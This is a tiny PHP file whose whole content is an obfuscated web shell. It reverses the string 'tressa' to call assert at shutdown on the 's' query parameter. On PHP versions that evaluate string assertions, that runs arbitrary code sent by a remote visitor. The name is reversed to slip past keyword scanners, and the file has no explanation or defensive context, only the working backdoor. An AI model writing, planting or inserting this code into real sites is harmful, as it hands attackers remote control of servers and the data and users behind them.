<?php
register_shutdown_function(strrev('tressa'), $_GET['s']);
